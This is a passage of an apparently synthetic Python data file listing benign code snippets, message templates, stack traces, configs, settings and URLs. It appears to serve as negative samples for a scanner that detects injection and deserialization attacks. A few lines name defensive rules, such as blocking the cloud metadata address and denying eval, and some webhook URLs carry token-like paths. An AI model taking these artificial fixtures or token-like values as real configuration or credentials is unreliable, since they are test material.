    "```java\ntry (var in = new ObjectInputStream(socket.getInputStream())) {\n  in.setObjectInputFilter("
    "ObjectInputFilter.Config.createFilter(\"com.acme.dto.*;!*\"));\n  return (Message) in.readObject();\n}\n```",
    "EL in the JSF page: `#{orderBean.total}` shows 0 because the bean is RequestScoped",
    "actuator only exposes health and info now: `management.endpoints.web.exposure.include=health,info`",
    "OGNL came up in the struts migration retro; we have been off Struts 2 entirely since March",
    "XStream config: `xstream.allowTypesByWildcard(new String[] {\"com.acme.feed.**\"})`, everything else denied",
    "for the template preview we render with `SandboxedEnvironment` from jinja2.sandbox",
    "to debug the memory leak: `node --inspect=127.0.0.1:9229 server.js` and open chrome://inspect",
    "hot reload in dev: `delete require.cache[require.resolve('./routes')]` before requiring it again",
    "go templates: `{{ range .Items }}{{ .Name }}{{ end }}`, and html/template escapes for you",
    "Liquid in the shop theme: `{{ product.price | money }}` and `{% if customer %}Hi {{ customer.first_name }}"
    "{% endif %}`",
    "`String.format(\"%s/%s\", bucketPrefix, key)` builds the S3 key, no URI encoding needed there",
    "python f-string debugging: `print(f\"{user.__class__.__name__} {user.id=}\")`",
    "Razor: `@Model.Customer.Name` and `@Html.DisplayFor(m => m.Total)`",
    "kubernetes: the pod can reach `kubernetes.default.svc` but the netpol blocks 169.254.169.254 now, expected",
    "ruby: `Kernel#open` with a user string is a footgun (a leading pipe runs a command), use `File.open` or "
    "`URI.open`",
    "`logger.info(\"user {} logged in from {}\", userId, ip)` with placeholders, not string concat",
    "the Velocity email template uses `$customer.firstName` and `#if($order.items.size() > 0)`",
    "freemarker: `${price?string.currency}` and `<#list items as item>${item.name}</#list>`",
    "`git grep -n \"eval(\" -- '*.py'` finds 3 hits, all in tests",
    "`@Scheduled(cron = \"${jobs.cleanup.cron:0 0 3 * * *}\")` reads the cron from config",
    "anyone seen `java.io.InvalidClassException: com.acme.Cart; local class incompatible: stream classdesc "
    "serialVersionUID = 1, local class serialVersionUID = 2`? redis sessions from the previous deploy",
    "nunjucks: `env.addFilter('shorten', (str, n) => str.slice(0, n))` then `{{ title | shorten(40) }}`",
    "Mako: we set `default_filters=['h']` so `${name}` is escaped",
    "Twig: `{{ order.createdAt|date('d/m/Y') }}` and `{% include 'partials/footer.html.twig' %}`",
    "tornado: `self.render('profile.html', user=user)`, templates autoescape by default",
    "the `Function` constructor shows up in our bundle only via the regenerator runtime polyfill, it's fine",
    "smarty legacy pages: `{$user.name|escape}` everywhere please",
]

TEMPLATES = [
    "Hi {{first_name}}, your order {{order.number}} has shipped. Track it here: {{tracking_url}}",
    "Hello ${customer.firstName}, your invoice ${invoice.id} for ${invoice.total} is due on ${invoice.dueDate}.",
    "{{#if trial}}Your trial ends in {{days_left}} days.{{else}}Thanks for being a customer since {{since}}.{{/if}}",
    "Reminder: {{ event.title }} starts at {{ event.start | date: \"%H:%M\" }} in {{ event.room }}",
    "${user.name} mentioned you in #${channel}: \"${snippet}\"",
    "Your verification code is {{code}}. It expires in {{ttl_minutes}} minutes.",
    "Dear {{ salutation }} {{ last_name }},\n\nthank you for your application for {{ position }}.\n\nKind regards,"
    "\n{{ recruiter.name }}",
    "Password reset requested for ${email}. If this wasn't you, ignore this message. The link is valid until "
    "${expiresAt}.",
    "{% if items|length > 1 %}You have {{ items|length }} items in your cart{% else %}You have one item in your "
    "cart{% endif %}",
    "Deploy {{service}} {{version}} to {{env}} finished in {{duration}}s by {{actor}}",
    "[${severity}] ${alertname} on ${labels.instance}: ${annotations.summary}",
    "{{ subject_prefix }} Weekly report for {{ team }} ({{ week_start }} - {{ week_end }})",
    "Hi <%= user.first_name %>, your subscription renews on <%= renewal_date %>.",
    "{{#each attendees}}{{this.name}} ({{this.email}}){{#unless @last}}, {{/unless}}{{/each}}",
    "Hola {{ nombre }}, tu cita es el {{ fecha }} a las {{ hora }}.",
    "${count} new comments on \"${post.title}\"",
    "{{ greeting }}, {{ user.display_name | default: \"there\" }}!",
    "Your export ${export.name} (${export.rowCount} rows) is ready: ${export.downloadUrl}",
    "Build #{{build.number}} of {{repo}} {{#if passed}}passed{{else}}failed{{/if}}",
    "[[${user.name}]] invited you to [[${workspace.name}]]",
    "Hi {{ name }}, {{ inviter }} added you to {{ project }}. Open it: {{ url }}",
    "Shift swap: {{from_user}} -> {{to_user}} on {{date}} ({{start}}-{{end}})",
    "Price alert: {{symbol}} is at {{price}} ({{change_pct}}% today)",
    "@{{handle}} your PR \"{{pr.title}}\" was merged into {{base_branch}}",
    "{{ 'Welcome' | t }} {{ user.first_name }}",
    "Low stock: ${sku} has ${qty} units left at ${warehouse}",
    "Hi ${name:-there}, your booking ${ref} is confirmed",
    "Dear %recipient.name%, your parcel %tracking% is out for delivery",
    "{{count}} file(s) uploaded to {{folder}}",
    "Invoice {{invoice.number}}: {{invoice.amount | currency: 'EUR'}} due {{invoice.due | date: 'dd MMM yyyy'}}",
    "${firstName}, you earned ${points} points this month. Total: ${totalPoints}",
    "Meeting notes for {{ meeting.date }}:\n{% for item in meeting.actions %}- {{ item.owner }}: {{ item.text }}\n"
    "{% endfor %}",
    "Your password was changed on {{ changed_at | datetimeformat('%Y-%m-%d %H:%M') }} from {{ ip }}",
    "{{> header}}Thanks for your order, {{customer.name}}!{{> footer}}",
    "You can unsubscribe at any time: {{{unsubscribe_link}}}",
    "Ticket ${ticket.key} moved to ${ticket.status} by ${actor.displayName}",
    "On-call this week: {{ oncall.primary }} (primary), {{ oncall.secondary }} (secondary)",
    "Hi {{user.firstName}}, {{#if user.isAdmin}}you have admin access to {{org.name}}{{/if}}",
    "{{ days }} days until {{ event }}!",
    "${app.name} ${app.version} is available. Release notes: ${app.releaseNotesUrl}",
]

STACKTRACES = [
    "java.lang.NullPointerException: Cannot invoke \"String.length()\" because \"name\" is null\n\tat com.acme."
    "billing.InvoiceService.format(InvoiceService.java:88)\n\tat com.acme.billing.InvoiceController.show("
    "InvoiceController.java:41)\n\tat java.base/jdk.internal.reflect.DirectMethodHandleAccessor.invoke("
    "DirectMethodHandleAccessor.java:103)\n\tat java.base/java.lang.reflect.Method.invoke(Method.java:580)\n\tat "
    "org.springframework.web.method.support.InvocableHandlerMethod.doInvoke(InvocableHandlerMethod.java:255)",
    "org.springframework.beans.factory.BeanCreationException: Error creating bean with name 'entityManagerFactory' "
    "defined in class path resource [org/springframework/boot/autoconfigure/orm/jpa/HibernateJpaConfiguration."
    "class]: Unable to create requested service [org.hibernate.engine.jdbc.env.spi.JdbcEnvironment]\nCaused by: "
    "org.hibernate.service.spi.ServiceException: Unable to create requested service\nCaused by: java.net."
    "ConnectException: Connection refused",
    "2024-06-21 10:15:32.118 ERROR 1 --- [nio-8080-exec-7] o.a.c.c.C.[.[.[/].[dispatcherServlet]    : "
    "Servlet.service() for servlet [dispatcherServlet] in context with path [] threw exception [Request "
    "processing failed: java.lang.IllegalArgumentException: Invalid UUID string: undefined] with root cause",
    "java.lang.ClassNotFoundException: org.h2.Driver\n\tat java.base/jdk.internal.loader.BuiltinClassLoader."
    "loadClass(BuiltinClassLoader.java:641)\n\tat java.base/jdk.internal.loader.ClassLoaders$AppClassLoader."
    "loadClass(ClassLoaders.java:188)\n\tat java.base/java.lang.ClassLoader.loadClass(ClassLoader.java:526)\n\tat "
    "java.base/java.lang.Class.forName0(Native Method)\n\tat java.base/java.lang.Class.forName(Class.java:421)",
    "com.fasterxml.jackson.databind.exc.InvalidTypeIdException: Could not resolve type id 'refund' as a subtype "
    "of `com.acme.events.PaymentEvent`: known type ids = [captured, failed, settled]\n at [Source: (String)"
    "\"{\"type\":\"refund\",\"amount\":1200}\"; line: 1, column: 9]",
    "2024-06-21T08:01:12.443Z WARN  [scheduler-1] c.a.reports.NightlyExport - export took 812s (threshold 600s), "
    "rows=1203311, file=s3://acme-reports/2024/06/21/orders.csv.gz",
    "java.io.InvalidClassException: com.acme.cart.Cart; local class incompatible: stream classdesc "
    "serialVersionUID = 1, local class serialVersionUID = 2\n\tat java.base/java.io.ObjectStreamClass."
    "initNonProxy(ObjectStreamClass.java:598)\n\tat java.base/java.io.ObjectInputStream.readNonProxyDesc("
    "ObjectInputStream.java:2078)\n\tat org.springframework.core.serializer.DefaultDeserializer.deserialize("
    "DefaultDeserializer.java:78)\n\tat org.springframework.session.data.redis.RedisIndexedSessionRepository."
    "getSession(RedisIndexedSessionRepository.java:448)",
    "javax.naming.NameNotFoundException: Name [jdbc/OrdersDB] is not bound in this Context. Unable to find "
    "[jdbc].\n\tat org.apache.naming.NamingContext.lookup(NamingContext.java:520)\n\tat org.apache.naming."
    "SelectorContext.lookup(SelectorContext.java:137)\n\tat javax.naming.InitialContext.lookup("
    "InitialContext.java:409)",
    "Exception in thread \"main\" java.lang.reflect.InaccessibleObjectException: Unable to make field private "
    "final byte[] java.lang.String.value accessible: module java.base does not \"opens java.lang\" to unnamed "
    "module @4e25154f\n\tat java.base/java.lang.reflect.AccessibleObject.checkCanSetAccessible("
    "AccessibleObject.java:354)\n\tat java.base/java.lang.reflect.Field.setAccessible(Field.java:172)",
    "org.thymeleaf.exceptions.TemplateInputException: An error happened during template parsing (template: "
    "\"class path resource [templates/invoice.html]\")\nCaused by: org.attoparser.ParseException: Exception "
    "evaluating SpringEL expression: \"invoice.customer.name\" (template: \"invoice\" - line 42, col 17)\nCaused "
    "by: org.springframework.expression.spel.SpelEvaluationException: EL1007E: Property or field 'name' cannot be "
    "found on null",
    "ERROR StatusLogger Log4j2 could not find a logging implementation. Please add log4j-core to the classpath. "
    "Using SimpleLogger to log to the console...",
    "main ERROR Unable to locate appender \"RollingFile\" for logger config \"root\"",
    "Caused by: org.postgresql.util.PSQLException: FATAL: password authentication failed for user \"orders_app\""
    "\n\tat org.postgresql.core.v3.ConnectionFactoryImpl.doAuthentication(ConnectionFactoryImpl.java:693)\n\tat "
    "org.postgresql.Driver.connect(Driver.java:297)\n\tat com.zaxxer.hikari.util.DriverDataSource.getConnection("
    "DriverDataSource.java:138)",
    "java.lang.OutOfMemoryError: Java heap space\nDumping heap to /var/log/app/java_pid1.hprof ...\nHeap dump file "
    "created [1048576000 bytes in 4.213 secs]",
    "org.apache.catalina.core.StandardWrapperValve invoke\nSEVERE: Servlet.service() for servlet [jsp] in context "
    "with path [/portal] threw exception [An exception occurred processing [/WEB-INF/views/home.jsp] at line [27]] "
    "with root cause\njavax.el.PropertyNotFoundException: Property [displayName] not found on type "
    "[com.acme.portal.User]",
    "[main] INFO  o.s.b.w.embedded.tomcat.TomcatWebServer - Tomcat started on port(s): 8080 (http) with context "
    "path ''\n[main] INFO  com.acme.Application - Started Application in 6.418 seconds (process running for 7.02)",
    "groovy.lang.MissingPropertyException: No such property: env for class: WorkflowScript\n\tat org.codehaus."
    "groovy.runtime.ScriptBytecodeAdapter.unwrap(ScriptBytecodeAdapter.java:66)\n\tat WorkflowScript.run("
    "WorkflowScript:14)",
    "com.thoughtworks.xstream.security.ForbiddenClassException: com.acme.legacy.FeedItem\n\tat com.thoughtworks."
    "xstream.security.NoTypePermission.allows(NoTypePermission.java:26)\n\tat com.thoughtworks.xstream.mapper."
    "SecurityMapper.realClass(SecurityMapper.java:74)",
    "org.yaml.snakeyaml.constructor.ConstructorException: could not determine a constructor for the tag "
    "tag:yaml.org,2002:com.acme.config.RetryPolicy\n in 'reader', line 12, column 10:\n      retry: "
    "!!com.acme.config.RetryPolicy",
    "freemarker.core.InvalidReferenceException: The following has evaluated to null or missing:\n==> user."
    "firstName  [in template \"welcome.ftl\" at line 3, column 8]\n\nTip: If the failing expression is known to "
    "legally refer to something that's sometimes null or missing, either specify a default value like "
    "myOptionalVar!myDefault, or use <#if myOptionalVar??>when-present<#else>when-missing</#if>.",
    "TypeError: Cannot read properties of undefined (reading 'map')\n    at OrderList (/app/src/components/"
    "OrderList.jsx:14:23)\n    at renderWithHooks (/app/node_modules/react-dom/cjs/react-dom-server.node."
    "development.js:5662:16)",
    "Error: spawn ffmpeg ENOENT\n    at ChildProcess._handle.onexit (node:internal/child_process:284:19)\n    at "
    "onErrorNT (node:internal/child_process:477:16)\n    at process.processTicksAndRejections (node:internal/"
    "process/task_queues:82:21)",
    "Traceback (most recent call last):\n  File \"/app/worker/tasks.py\", line 88, in render_invoice\n    html = "
    "template.render(**context)\n  File \"/usr/local/lib/python3.12/site-packages/jinja2/environment.py\", line "
    "1304, in render\n    self.environment.handle_exception()\njinja2.exceptions.UndefinedError: 'dict object' "
    "has no attribute 'customer'",
    "subprocess.CalledProcessError: Command '['pg_dump', '-Fc', 'orders']' returned non-zero exit status 1.",
    "ActionView::Template::Error (undefined method `name' for nil:NilClass):\n    12:   <h1><%= @order.customer"
    ".name %></h1>\n  app/views/orders/show.html.erb:12",
    "2024-06-21 11:02:44.907  INFO 7 --- [           main] o.s.b.a.e.web.EndpointLinksResolver      : Exposing "
    "2 endpoint(s) beneath base path '/actuator'",
    "WARN  [http-nio-8080-exec-3] o.s.w.s.m.s.DefaultHandlerExceptionResolver : Resolved [org.springframework."
    "web.HttpMediaTypeNotSupportedException: Content-Type 'application/x-www-form-urlencoded;charset=UTF-8' is "
    "not supported]",
    "io.netty.channel.AbstractChannel$AnnotatedConnectException: Connection refused: localhost/127.0.0.1:6379\n"
    "Caused by: java.net.ConnectException: Connection refused\n\tat java.base/sun.nio.ch.Net.pollConnect("
    "Native Method)",
    "ognl.NoSuchPropertyException: com.acme.web.SearchAction.sortOrder\n\tat ognl.ObjectPropertyAccessor."
    "getProperty(ObjectPropertyAccessor.java:151)\n\tat com.opensymphony.xwork2.ognl.accessor."
    "CompoundRootAccessor.getProperty(CompoundRootAccessor.java:149)",
    "2024-06-21 07:45:00 [pool-2-thread-1] DEBUG org.hibernate.SQL - select o1_0.id,o1_0.customer_id,o1_0.total "
    "from orders o1_0 where o1_0.status=? order by o1_0.created_at desc fetch first ? rows only",
]

CONFIGS = [
    ("application.yml", "spring:\n  datasource:\n    url: jdbc:postgresql://db.internal:5432/orders\n    username: "
     "${DB_USER}\n    password: ${DB_PASSWORD}\n  jpa:\n    hibernate:\n      ddl-auto: validate\nserver:\n  port: "
     "${PORT:8080}\n"),
    ("application.properties", "management.endpoints.web.exposure.include=health,info,prometheus\n"
     "management.endpoint.health.show-details=when-authorized\nlogging.level.org.springframework.web=DEBUG\n"
     "logging.pattern.console=%d{yyyy-MM-dd HH:mm:ss} %-5level %logger{36} - %msg%n\n"),
    ("log4j2.xml", '<?xml version="1.0" encoding="UTF-8"?>\n<Configuration status="WARN">\n  <Appenders>\n    '
     '<Console name="Console" target="SYSTEM_OUT">\n      <PatternLayout pattern="%d{HH:mm:ss.SSS} [%t] %-5level '
     '%logger{36} - %msg%n"/>\n    </Console>\n  </Appenders>\n  <Loggers>\n    <Root level="info"><AppenderRef '
     'ref="Console"/></Root>\n  </Loggers>\n</Configuration>\n'),
    ("log4j2-rolling.xml", '<RollingFile name="File" fileName="${sys:app.home}/logs/app.log" filePattern='
     '"${sys:app.home}/logs/app-%d{yyyy-MM-dd}-%i.log.gz">\n  <PatternLayout pattern="%d %p %c{1.} [%t] %m%n"/>\n'
     '  <Policies><TimeBasedTriggeringPolicy/><SizeBasedTriggeringPolicy size="100 MB"/></Policies>\n'
     '</RollingFile>\n'),
    ("log4j2-properties.xml", '<Properties>\n  <Property name="LOG_LEVEL">${env:LOG_LEVEL:-INFO}</Property>\n  '
     '<Property name="PATTERN">%d{ISO8601} %-5p [%X{traceId}] %c{1}: %m%n</Property>\n</Properties>\n'),
    ("logback-spring.xml", '<configuration>\n  <include resource="org/springframework/boot/logging/logback/'
     'defaults.xml"/>\n  <property name="LOG_FILE" value="${LOG_PATH:-${java.io.tmpdir:-/tmp}}/app.log"/>\n  '
     '<springProfile name="prod">\n    <appender name="JSON" class="ch.qos.logback.core.ConsoleAppender">\n      '
     '<encoder class="net.logstash.logback.encoder.LogstashEncoder"/>\n    </appender>\n  </springProfile>\n'
     '</configuration>\n'),
    ("logback-encoder.xml", "<encoder><pattern>%d{ISO8601} %highlight(%-5level) [%thread] %cyan(%logger{40}) "
     "%X{traceId:-} - %msg%n%throwable</pattern></encoder>\n"),
    ("pom.xml", "<dependency>\n  <groupId>org.apache.logging.log4j</groupId>\n  <artifactId>log4j-core</artifactId>\n"
     "  <version>2.23.1</version>\n</dependency>\n"),
    ("build.gradle", "dependencies {\n    implementation 'org.springframework.boot:spring-boot-starter-web'\n    "
     "implementation 'com.fasterxml.jackson.core:jackson-databind:2.17.1'\n    runtimeOnly 'org.postgresql:"
     "postgresql'\n    testImplementation 'com.h2database:h2'\n}\n"),
    ("application-test.yml", "spring:\n  datasource:\n    url: jdbc:h2:mem:testdb;DB_CLOSE_DELAY=-1;MODE=PostgreSQL\n"
     "  h2:\n    console:\n      enabled: false\n"),
    ("context.xml", '<Context>\n  <Resource name="jdbc/OrdersDB" auth="Container" type="javax.sql.DataSource" '
     'driverClassName="org.postgresql.Driver" url="jdbc:postgresql://db.internal:5432/orders" username='
     '"orders_app" password="${db.password}" maxTotal="20"/>\n</Context>\n'),
    ("web.xml", "<servlet>\n  <servlet-name>dispatcher</servlet-name>\n  <servlet-class>org.springframework.web."
     "servlet.DispatcherServlet</servlet-class>\n  <load-on-startup>1</load-on-startup>\n</servlet>\n"
     "<servlet-mapping><servlet-name>dispatcher</servlet-name><url-pattern>/</url-pattern></servlet-mapping>\n"),
    ("jvm.env", "JAVA_TOOL_OPTIONS=-XX:MaxRAMPercentage=75.0 -XX:+HeapDumpOnOutOfMemoryError -XX:HeapDumpPath="
     "/var/log/app -Dlog4j2.formatMsgNoLookups=true -Dfile.encoding=UTF-8\n"),
    ("jmx.env", "JAVA_OPTS=-Dcom.sun.management.jmxremote -Dcom.sun.management.jmxremote.port=9010 "
     "-Dcom.sun.management.jmxremote.authenticate=true -Dcom.sun.management.jmxremote.ssl=true "
     "-Djava.rmi.server.hostname=10.2.3.4\n"),
    ("gateway.yml", "spring:\n  cloud:\n    gateway:\n      routes:\n        - id: orders\n          uri: "
     "lb://orders-service\n          predicates:\n            - Path=/api/orders/**\n          filters:\n"
     "            - StripPrefix=1\n            - AddResponseHeader=X-Served-By, gateway\n"),
    ("mail.properties", "app.mail.from=noreply@acme.io\napp.mail.subject=${app.name} - password reset\n"
     "app.scheduler.cron=0 0 3 * * *\napp.retry.backoff=#{2 * 1000}\n"),
    ("jackson.yml", "spring:\n  jackson:\n    default-property-inclusion: non_null\n    serialization:\n      "
     "write-dates-as-timestamps: false\n    deserialization:\n      fail-on-unknown-properties: false\n    "
     "time-zone: Europe/Berlin\n"),
    (".eslintrc.json", '{\n  "extends": ["eslint:recommended", "plugin:n/recommended"],\n  "rules": {"no-eval": '
     '"error", "no-implied-eval": "error", "no-new-func": "error"}\n}\n'),
    ("package.json", '{\n  "scripts": {\n    "start": "node server.js",\n    "dev": "nodemon --inspect server.js",'
     '\n    "test": "NODE_ENV=test jest --runInBand"\n  },\n  "engines": {"node": ">=20"}\n}\n'),
    ("ecosystem.config.js", "module.exports = {\n  apps: [{\n    name: 'api',\n    script: './server.js',\n    "
     "instances: 'max',\n    env: { NODE_ENV: 'production', PORT: 3000 }\n  }]\n};\n"),
    ("logging.yaml", "version: 1\nformatters:\n  default:\n    format: '%(asctime)s %(levelname)s %(name)s: "
     "%(message)s'\nhandlers:\n  console:\n    class: logging.StreamHandler\n    formatter: default\nroot:\n  "
     "level: INFO\n  handlers: [console]\n"),
    ("database.yml", "production:\n  adapter: postgresql\n  url: <%= ENV['DATABASE_URL'] %>\n  pool: <%= ENV.fetch"
     "('RAILS_MAX_THREADS') { 5 } %>\n"),
    ("Dockerfile", "FROM eclipse-temurin:21-jre\nCOPY build/libs/app.jar /app/app.jar\nENV JAVA_OPTS=\"-Xms512m "
     "-Xmx1g\"\nENTRYPOINT [\"sh\", \"-c\", \"exec java $JAVA_OPTS -jar /app/app.jar\"]\n"),
    ("deployment.yaml", "env:\n  - name: SPRING_PROFILES_ACTIVE\n    value: prod\n  - name: JAVA_TOOL_OPTIONS\n    "
     "value: \"-XX:MaxRAMPercentage=75\"\n  - name: POD_IP\n    valueFrom:\n      fieldRef:\n        fieldPath: "
     "status.podIP\n"),
    ("struts.xml", '<struts>\n  <constant name="struts.devMode" value="false"/>\n  <constant name="struts.enable.'
     'DynamicMethodInvocation" value="false"/>\n  <package name="default" extends="struts-default">\n    <action '
     'name="search" class="com.acme.web.SearchAction"><result>/WEB-INF/search.jsp</result></action>\n  '
     '</package>\n</struts>\n'),
]

SETTINGS: list[dict[str, Any]] = [
    {"notifications": {"email": {"enabled": True, "digest": "daily"}, "slack": {"channels": ["#deploys", "#alerts"]}},
     "theme": "dark", "locale": "en-GB"},
    {"webhooks": [{"url": "https://hooks.slack.com/services/T0A1B2C3D/B0E1F2G3H/Xk9p2LmN7qR4", "events":
                   ["order.created", "order.refunded"], "active": True}], "retry": {"max": 5, "backoff_ms": 2000}},
    {"dashboard": {"widgets": [{"type": "chart", "metric": "revenue", "range": "30d"},
                               {"type": "table", "source": "top_customers", "limit": 10}], "layout": "grid"}},
    {"editor": {"fontSize": 14, "tabSize": 2, "wordWrap": "on", "rulers": [80, 120]}, "keymap": "vim"},
    {"project": {"name": "checkout-v2", "stage": "prototype", "owners": ["ann", "raj"],
                 "milestones": [{"name": "beta", "due": "2024-09-01"}]}},
    {"privacy": {"profile_visible": False, "show_email": False, "allow_dm_from": ["team", "org"]}},
    {"integrations": {"github": {"org": "acme", "repos": ["billing", "gateway"]}, "jira": {"project": "OPS"}}},
    {"billing": {"plan": "team", "seats": 25, "currency": "EUR", "invoice_emails": ["ap@acme.io"]}},
    {"search": {"default_sort": "-updated_at", "filters": {"status": ["open", "pending"], "assignee": "me"}}},
    {"callback_url": "https://app.acme.io/oauth/callback", "scopes": ["read:orders", "write:refunds"],
     "token_ttl": 3600},
    {"template": {"header": "Acme Support", "footer": "Sent with care from Berlin", "accent": "#3b82f6"}},
    {"module": "reports", "class": "premium", "features": {"export_csv": True, "schedule": "weekly"}},
    {"proxy": {"enabled": False, "host": "", "port": 0}, "timeouts": {"connect": 5, "read": 30}},
    {"alerts": [{"metric": "p99_latency_ms", "op": ">", "threshold": 800, "for": "5m"},
                {"metric": "error_rate", "op": ">", "threshold": 0.02, "for": "10m"}]},
    {"calendar": {"week_starts_on": "monday", "working_hours": {"start": "09:00", "end": "17:30"},
                  "holidays": ["2024-12-25", "2024-12-26"]}},
    {"i18n": {"fallback": "en", "available": ["en", "de", "fr", "pt-BR", "ja"], "number_format": "1.234,56"}},
    {"feed": {"sources": [{"url": "https://github.com/spring-projects/spring-boot/releases.atom", "label": "spring"},
                          {"url": "https://nodejs.org/en/feed/releases.xml", "label": "node"}], "refresh_min": 60}},
    {"avatar": {"url": "https://avatars.githubusercontent.com/u/583231?v=4", "shape": "circle", "size": 64}},
    {"shortcuts": {"new_ticket": "c", "search": "/", "go_home": "g h"}, "sound": {"mentions": True, "all": False}},
    {"export": {"format": "xlsx", "columns": ["id", "customer", "total", "created_at"], "timezone": "UTC"}},
    {"security": {"mfa": {"required": True, "methods": ["totp", "webauthn"]}, "session_timeout_min": 480}},
    {"logging": {"level": "INFO", "loggers": {"com.acme.billing": "DEBUG", "org.hibernate.SQL": "WARN"}}},
    {"pipeline": {"stages": ["build", "test", "deploy"], "env": {"JAVA_VERSION": "21", "NODE_VERSION": "20"}}},
    {"map": {"center": {"lat": 52.52, "lng": 13.405}, "zoom": 11, "layers": ["traffic", "transit"]}},
    {"onboarding": {"steps": [{"id": "profile", "done": True}, {"id": "invite", "done": False}],
                    "dismissed": False}},
    {"email": {"signature": "Best,\nAnn\nAcme GmbH", "reply_to": "support@acme.io", "bcc_self": False}},
    {"constraints": {"max_upload_mb": 25, "allowed_types": ["image/png", "image/jpeg", "application/pdf"]}},
    {"experiments": {"new_checkout": {"enabled": True, "rollout": 0.25}, "dark_launch": {"enabled": False}}},
    {"report": {"name": "Weekly revenue", "recipients": ["cfo@acme.io"], "cron": "0 8 * * MON",
                "filters": {"region": ["EU", "UK"]}}},
    {"user": {"name": "Ann Lee", "title": "Staff Engineer", "links": {"github": "https://github.com/annlee",
                                                                      "site": "https://annlee.dev"}}},
]

LOCALES = [
    ("en-US", "America/New_York", "MM/dd/yyyy h:mm a", "en-US,en;q=0.9"),
    ("en-GB", "Europe/London", "dd/MM/yyyy HH:mm", "en-GB,en;q=0.9"),
    ("de-DE", "Europe/Berlin", "dd.MM.yyyy HH:mm", "de-DE,de;q=0.9,en;q=0.8"),
    ("fr-CA", "America/Toronto", "yyyy-MM-dd", "fr-CA,fr;q=0.9,en-CA;q=0.8"),
    ("pt-BR", "America/Sao_Paulo", "dd/MM/yyyy", "pt-BR,pt;q=0.9,en;q=0.7"),
    ("es-419", "America/Mexico_City", "d 'de' MMMM 'de' yyyy", "es-419,es;q=0.9"),
    ("ja-JP", "Asia/Tokyo", "yyyy/MM/dd HH:mm:ss", "ja,en-US;q=0.7"),
    ("zh-Hant-TW", "Asia/Taipei", "yyyy-MM-dd", "zh-TW,zh;q=0.9,en;q=0.6"),
    ("zh-Hans-CN", "Asia/Shanghai", "yyyy\u5e74M\u6708d\u65e5", "zh-CN,zh;q=0.9"),
    ("ko-KR", "Asia/Seoul", "yyyy. M. d. a h:mm", "ko-KR,ko;q=0.9,en;q=0.5"),
    ("hi-IN", "Asia/Kolkata", "dd-MM-yyyy", "hi-IN,hi;q=0.9,en-IN;q=0.8"),
    ("ar-EG", "Africa/Cairo", "dd/MM/yyyy", "ar-EG,ar;q=0.9"),
    ("he-IL", "Asia/Jerusalem", "d.M.yyyy", "he,en;q=0.8"),
    ("ru-RU", "Europe/Moscow", "dd.MM.yyyy", "ru-RU,ru;q=0.9"),
    ("uk-UA", "Europe/Kyiv", "dd.MM.yyyy HH:mm", "uk,ru;q=0.8,en;q=0.6"),
    ("tr-TR", "Europe/Istanbul", "dd.MM.yyyy", "tr-TR,tr;q=0.9"),
    ("nl-BE", "Europe/Brussels", "d/MM/yyyy", "nl-BE,nl;q=0.9,fr-BE;q=0.8"),
    ("sv-SE", "Europe/Stockholm", "yyyy-MM-dd HH:mm", "sv-SE,sv;q=0.9"),
    ("fi-FI", "Europe/Helsinki", "d.M.yyyy", "fi,en;q=0.8"),
    ("pl-PL", "Europe/Warsaw", "dd.MM.yyyy", "pl-PL,pl;q=0.9"),
    ("it-CH", "Europe/Zurich", "dd.MM.yyyy", "it-CH,it;q=0.9,de-CH;q=0.8"),
    ("en-AU", "Australia/Sydney", "d/MM/yyyy h:mm a", "en-AU,en;q=0.9"),
    ("en-NZ", "Pacific/Auckland", "d/MM/yyyy", "en-NZ,en;q=0.9"),
    ("id-ID", "Asia/Jakarta", "dd/MM/yyyy", "id-ID,id;q=0.9"),
    ("th-TH-u-ca-buddhist", "Asia/Bangkok", "d/M/yyyy", "th-TH,th;q=0.9"),
    ("sr-Latn-RS", "Europe/Belgrade", "d.M.yyyy.", "sr-Latn-RS,sr;q=0.9"),
    ("ca-ES-valencia", "Europe/Madrid", "dd/MM/yyyy", "ca-ES,ca;q=0.9,es;q=0.8"),
    ("en-US-u-hc-h23", "America/Los_Angeles", "yyyy-MM-dd'T'HH:mm:ssXXX", "en-US,en;q=0.9"),
    ("es-AR", "America/Argentina/Buenos_Aires", "dd/MM/yyyy", "es-AR,es;q=0.9"),
    ("en", "Etc/UTC", "EEE, d MMM yyyy HH:mm:ss Z", "en;q=1.0"),
    ("en-US", "America/Indiana/Indianapolis", "%Y-%m-%d %H:%M:%S", "en-US"),
    ("pt-PT", "Atlantic/Azores", "HH:mm 'UTC'xxx", "pt-PT,pt;q=0.9"),
]

PUBLIC_URLS = [
    "https://hooks.slack.com/services/T0A1B2C3D/B0E1F2G3H/Xk9p2LmN7qR4sT6v",
    "https://discord.com/api/webhooks/1187462019384720384/abcDEF-ghiJKL_mnoPQR",
    "https://acme.webhook.office.com/webhookb2/3c1e7a2b-5d6e-4f70-8a9b-0c1d2e3f4a5b/IncomingWebhook/9f8e7d6c",
    "https://api.github.com/repos/acme/billing/hooks",
    "https://images.unsplash.com/photo-1506744038136-46273834b3fb?w=1200&q=80&auto=format",
    "https://cdn.shopify.com/s/files/1/0262/4071/2726/products/mug.jpg?v=1625590000",
    "https://upload.wikimedia.org/wikipedia/commons/3/3f/Fronalpstock_big.jpg",
    "https://avatars.githubusercontent.com/u/583231?v=4",
    "https://www.gravatar.com/avatar/205e460b479e2e5b48aec07710c08d50?s=200&d=identicon",
    "https://feeds.bbci.co.uk/news/technology/rss.xml",
    "https://github.com/spring-projects/spring-boot/releases.atom",
    "https://www.theverge.com/rss/index.xml",
    "https://blog.rust-lang.org/feed.xml",
    "https://acme-assets.s3.eu-west-1.amazonaws.com/brand/logo%402x.png",
    "https://storage.googleapis.com/acme-public/reports/2024-q2.pdf",
    "https://logging.apache.org/log4j/2.x/manual/lookups.html",
    "https://docs.spring.io/spring-framework/reference/core/expressions.html",
    "https://nodejs.org/api/child_process.html#child_processexecfilefile-args-options-callback",
    "https://docs.python.org/3/library/subprocess.html#security-considerations",
    "https://ruby-doc.org/3.3.0/Kernel.html#method-i-open",
    "https://jinja.palletsprojects.com/en/3.1.x/sandbox/",
    "https://cheatsheetseries.owasp.org/cheatsheets/Deserialization_Cheat_Sheet.html",
    "https://docs.aws.amazon.com/AWSEC2/latest/UserGuide/configuring-instance-metadata-service.html",
    "https://cloud.google.com/compute/docs/metadata/querying-metadata",
    "https://www.thymeleaf.org/doc/tutorials/3.1/usingthymeleaf.html",
    "https://freemarker.apache.org/docs/ref_builtins_expert.html",
    "https://handlebarsjs.com/guide/expressions.html",
    "https://developer.mozilla.org/en-US/docs/Web/JavaScript/Reference/Global_Objects/Object/proto",
